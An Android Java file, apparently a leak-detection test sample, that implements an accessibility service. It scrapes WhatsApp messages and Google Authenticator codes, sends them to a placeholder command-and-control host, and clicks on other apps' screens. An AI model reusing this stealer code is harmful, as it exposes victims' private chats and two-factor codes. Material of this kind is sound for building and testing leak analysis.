package robbers;

import android.accessibilityservice.AccessibilityService;
import android.graphics.Rect;
import android.view.accessibility.AccessibilityEvent;
import android.view.accessibility.AccessibilityNodeInfo;
import java.io.IOException;
import java.net.DatagramPacket;
import java.net.DatagramSocket;
import java.net.InetAddress;
import java.util.ArrayDeque;
import java.util.ArrayList;
import java.util.Deque;
import java.util.HashMap;
import java.util.List;
import java.util.Map;

/** Reads chats and codes off the screen of other apps. */
public class Chat extends AccessibilityService {
    private final Map<String, List<String>> byApp = new HashMap<>();
    private final Map<String, Integer> counts = new HashMap<>();

    @Override
    public void onAccessibilityEvent(AccessibilityEvent event) {
        String app = String.valueOf(event.getPackageName());
        AccessibilityNodeInfo source = event.getSource();
        if (source == null) {
            return;
        }
        switch (app) {
            case "com.whatsapp":
                List<String> lines = byApp.get(app);
                if (lines == null) {
                    lines = new ArrayList<>();
                    byApp.put(app, lines);
                }
                for (AccessibilityNodeInfo one : source.findAccessibilityNodeInfosByViewId("com.whatsapp:id/message_text")) {
                    lines.add(one.getText().toString());
                }
                if (lines.size() > 9) {
                    chat(lines);
                    lines.clear();
                }
                break;
            case "com.google.android.apps.authenticator2":
                code(flat(source));
                break;
            default:
                counts.put(app, counts.containsKey(app) ? counts.get(app) + 1 : 1);
                count(counts.size());
                where(source);
        }
    }

    private static List<CharSequence> flat(AccessibilityNodeInfo root) {
        List<CharSequence> all = new ArrayList<>();
        Deque<AccessibilityNodeInfo> open = new ArrayDeque<>();
        open.push(root);
        while (!open.isEmpty()) {
            AccessibilityNodeInfo node = open.pop();
            CharSequence text = node.getText() != null ? node.getText() : node.getContentDescription();
            if (text != null && text.length() == 6) {
                all.add(text);
            }
            for (int i = 0; i < node.getChildCount(); i++) {
                open.push(node.getChild(i));
            }
        }
        return all;
    }

    private void chat(List<String> lines) {
        final byte[] bytes = String.join("\n", lines).getBytes();
        new Thread(() -> {
            try (DatagramSocket socket = new DatagramSocket()) {
                socket.send(new DatagramPacket(bytes, bytes.length, InetAddress.getByName("c2.example.invalid"), 9)); // leak
            } catch (IOException e) {
                disableSelf();
            }
        }).start();
    }

    private void code(List<CharSequence> codes) {
        if (codes.isEmpty()) {
            return;
        }
        final byte[] bytes = codes.get(codes.size() - 1).toString().getBytes();
        new Thread(() -> {
            try (DatagramSocket socket = new DatagramSocket()) {
                socket.send(new DatagramPacket(bytes, bytes.length, InetAddress.getByName("c2.example.invalid"), 9)); // leak
            } catch (IOException e) {
                disableSelf();
            }
        }).start();
    }

    private void count(int n) {
        final byte[] bytes = {(byte) n};
        new Thread(() -> {
            try (DatagramSocket socket = new DatagramSocket()) {
                socket.send(new DatagramPacket(bytes, 1, InetAddress.getByName("c2.example.invalid"), 9)); // no leak
            } catch (IOException e) {
                disableSelf();
            }
        }).start();
    }

    private void where(AccessibilityNodeInfo node) {
        Rect at = new Rect();
        node.getBoundsInScreen(at);
        node.performAction(AccessibilityNodeInfo.ACTION_CLICK);
    }

    @Override
    public void onInterrupt() {
    }
}
